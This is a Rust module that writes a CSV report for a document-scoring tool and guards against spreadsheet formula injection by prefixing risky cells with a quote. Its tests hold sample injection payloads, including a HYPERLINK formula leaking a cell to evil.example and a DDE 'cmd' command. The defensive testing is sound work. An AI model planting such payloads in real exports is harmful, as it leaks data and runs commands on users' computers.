//! The report for spreadsheets: one row per document — path, status, kind, fit, confidence, one score column per
//! role, the top missing skills, and the error or skip reason — RFC 4180 quoted by the `csv` crate.
//!
//! A spreadsheet evaluates a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before
//! one) as a formula, and every text cell here comes from strangers' files: a title, a file name, a skill name
//! of a custom lexicon, a message quoting a document. So, as OWASP recommends, such a cell is written with a
//! `'` in front ([`neutralise`]), which spreadsheets show as text; plain numbers stay numbers. `--csv-raw`
//! writes cells as they are, for programs that read the CSV themselves.
//!
//! Lines end in CRLF, as RFC 4180 says; `--csv-bom` puts a UTF-8 byte-order mark first, which some spreadsheet
//! programs need to read non-ASCII text as UTF-8.

use std::borrow::Cow;
use std::io::{self, Write};

use crate::lexicon::Lexicons;
use crate::outcome::{Entry, Outcome};
use crate::report::Sink;
use crate::scan::Summary;

/// Missing skills listed in the `missing` column.
const MISSING_SHOWN: usize = 5;

/// How the CSV is written.
#[derive(Clone, Copy, Debug, Default)]
pub struct CsvStyle {
    /// Write cells as they are, formula characters and all.
    pub raw: bool,
    /// Start with a UTF-8 byte-order mark.
    pub bom: bool,
}

/// Writes CSV rows as entries arrive.
pub struct CsvSink<W: Write> {
    out: csv::Writer<W>,
    roles: Vec<String>,
    /// Write cells as they are, formula characters and all.
    raw: bool,
}

impl<W: Write> CsvSink<W> {
    /// A CSV report with a score column per role of `lexicons`; writes the header row. Unless `style.raw`,
    /// cells a spreadsheet would evaluate are neutralised.
    pub fn new(mut out: W, lexicons: &Lexicons, style: CsvStyle) -> io::Result<Self> {
        if style.bom {
            out.write_all("\u{feff}".as_bytes())?;
        }
        let mut out = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(out);
        let roles: Vec<String> = lexicons.roles.iter().map(|r| r.id.clone()).collect();
        let mut header: Vec<String> =
            ["path", "status", "format", "kind", "title", "fit", "confidence"].map(String::from).to_vec();
        header.extend(roles.iter().map(|r| format!("score_{r}")));
        header.extend(["title_role", "title_mismatch", "missing", "problem"].map(String::from));
        out.write_record(&header).map_err(csv_io)?;
        Ok(CsvSink { out, roles, raw: style.raw })
    }
}

impl<'l, W: Write> Sink<'l> for CsvSink<W> {
    fn entry(&mut self, entry: &Entry<'l>) -> io::Result<()> {
        let path = entry.path.to_string_lossy().into_owned();
        let blank_scores = || vec![String::new(); self.roles.len()];
        let row: Vec<String> = match &entry.outcome {
            Outcome::Analysed(a) => {
                let verdict = &a.assessment;
                let mut row = vec![
                    path,
                    "ok".into(),
                    a.format.as_str().into(),
                    a.kind.as_str().into(),
                    a.title.clone().unwrap_or_default(),
                    verdict.fit.as_str().into(),
                    format!("{:.2}", verdict.confidence),
                ];
                row.extend(verdict.scores.iter().map(|(_, s)| format!("{s:.1}")));
                let missing: Vec<&str> = verdict.missing.iter().take(MISSING_SHOWN).map(|m| m.name).collect();
                row.extend([
                    verdict.title_role.clone().unwrap_or_default(),
                    verdict.title_mismatch.to_string(),
                    missing.join("; "),
                    a.warnings.iter().map(|w| w.message.as_str()).collect::<Vec<_>>().join("; "),
                ]);
                row
            }
            Outcome::Skipped(skip) => settled(path, "skipped", blank_scores(), &skip.message),
            Outcome::Failed(failure) => settled(path, "failed", blank_scores(), &failure.message),
        };
        if self.raw {
            self.out.write_record(&row).map_err(csv_io)
        } else {
            let cells: Vec<Cow<str>> = row.iter().map(|cell| neutralise(cell)).collect();
            self.out.write_record(cells.iter().map(|cell| cell.as_bytes())).map_err(csv_io)
        }
    }

    fn finish(&mut self, _summary: &Summary) -> io::Result<()> {
        self.out.flush()
    }
}

/// A skipped or failed document's row: its status and why, the analysis columns empty.
fn settled(path: String, status: &str, scores: Vec<String>, why: &str) -> Vec<String> {
    let mut row = vec![path, status.into(), String::new(), String::new(), String::new(), String::new(), String::new()];
    row.extend(scores);
    row.extend([String::new(), String::new(), String::new(), why.to_string()]);
    row
}

/// `cell` as a spreadsheet will show it and never evaluate it: with a `'` in front when it starts with a
/// formula character (`=`, `+`, `-`, `@`, tab, carriage return — the OWASP list), unless it is a plain number
/// such as `-1.5`.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula && !is_plain_number(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// Whether `cell` is an optionally signed decimal number (`-12`, `+0.5`), which a spreadsheet reads as that
/// number and nothing else.
fn is_plain_number(cell: &str) -> bool {
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    match unsigned.split_once('.') {
        Some((whole, fraction)) => digits(whole) && digits(fraction),
        None => digits(unsigned),
    }
}

/// A CSV error as the io::Error under it, so a closed pipe stays a closed pipe.
fn csv_io(e: csv::Error) -> io::Error {
    match e.into_kind() {
        csv::ErrorKind::Io(io) => io,
        other => io::Error::other(format!("{other:?}")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_a_quote_in_front() {
        for cell in [
            "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Senior Cloud Engineer\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "-",
            "-1.",
            "--1",
            "-1e5",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn other_cells_and_plain_numbers_are_unchanged() {
        for cell in ["", "Cloud Engineer", "94.7", "-1", "-0.25", "+3", "a=b", "'already", " =1"] {
            assert!(matches!(neutralise(cell), Cow::Borrowed(c) if c == cell), "{cell:?}");
        }
    }
}
